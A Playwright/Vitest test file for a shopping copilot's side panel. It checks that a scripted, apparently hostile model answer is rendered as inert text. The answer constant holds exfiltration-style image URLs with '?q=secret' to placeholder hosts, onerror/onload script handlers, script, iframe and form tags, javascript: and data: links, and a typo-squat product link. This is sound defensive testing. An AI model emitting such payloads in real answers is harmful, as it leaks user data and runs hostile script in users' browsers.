import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Mall } from '../mall/mall.d.mts';
import { startMall } from '../mall/mall.mjs';
import { type PlayedModel, startModel } from '../mallory/serve.mjs';
import { type ChromiumWithCartwright, launchChromium } from './harness/chromium';
import { askCopilot, useModel } from './harness/copilot';
import { visit } from './harness/shopper';
import { type Sink, startSink } from './harness/sink';

let mall: Mall;
let sink: Sink;
let model: PlayedModel;
let browser: ChromiumWithCartwright;
let panel: Page;

const seen = () => mall.url('greengrocer', '/p/hollin-farm-whole-milk-2-l/10012');

beforeAll(async () => {
  [mall, sink] = await Promise.all([startMall(), startSink()]);
  model = await startModel({ script: () => ({ text: ANSWER.replace('SEEN', seen()) }) });
  browser = await launchChromium({ args: sink.args });
  panel = await browser.screen('sidepanel', { width: 400, height: 900 });
  await useModel(panel, model.url);
  await visit(await browser.context.newPage(), panel, seen());
  await panel.bringToFront();
});

afterAll(async () => {
  await browser?.close();
  await Promise.all([sink?.close(), model?.close(), mall?.close()]);
});

/** Every way that Markdown has to load something, to lead somewhere or to run something. */
const ANSWER = `Look at [the milk](SEEN) first.

![picture](http://image.example/pixel.png?q=secret) and ![by name][pixel]
<img src="http://html-image.example/p.png" onerror="globalThis.slipped = true"> <svg onload="globalThis.slipped = true"><image href="http://svg.example/i.png"/></svg>
<style>body { background: url(http://css.example/c.png) }</style>
<iframe src="http://frame.example/"></iframe><script>globalThis.slipped = true</script>
<a href="http://anchor.example/" target="_top">html link</a> <form action="http://form.example/"><button>Approve</button></form>

[typo-squat](http://greengrocer.localhost.evil.example/p/hollin-farm-whole-milk-2-l/10012) [unseen](http://unseen.example/?q=secret) http://bare.example/ <http://auto.example/>
[script](javascript:globalThis.slipped=true) [data](data:text/html,<script>1</script>) [ours](chrome-extension://ID/options.html) [relative](/options.html)

[pixel]: http://reference.example/pixel.png

That was all.`;

test('an answer is drawn as words: nothing is loaded, nothing runs, and only a page that was seen can be clicked (A10, A11)', async () => {
  const answer = await askCopilot(panel, 'Which milk?');
  await answer.getByRole('paragraph').filter({ hasText: 'That was all.' }).waitFor({ timeout: 30_000 });
  const drawn = answer.locator('.run-answer');
  await expect.poll(() => drawn.locator('a').count()).toBe(1);
  expect(await drawn.locator('a').getAttribute('href')).toBe(seen());
  expect(await drawn.locator('a').getAttribute('rel')).toBe('noopener noreferrer');
  const loud =
    'img, svg, image, style, iframe, script, form, button, input, object, link, [style], [onerror], [onload]';
  expect(await drawn.locator(loud).count()).toBe(0);
  const words = await drawn.textContent();
  for (const shown of [
    'picture',
    'unseen (http://unseen.example/?q=secret)',
    'http://bare.example/',
    'javascript:',
  ])
    expect(words).toContain(shown);
  expect(await panel.evaluate(() => 'slipped' in globalThis)).toBe(false);
  expect(sink.hosts()).toEqual([]);
});

test('a click on the product that was seen opens its page, letter for letter as it was seen', async () => {
  const opening = browser.context.waitForEvent('page');
  await panel.locator('.run-answer a').click();
  const page = await opening;
  await page.waitForURL(seen());
  expect(mall.log().at(-1)?.shop).toBe('greengrocer');
  await page.close();
});
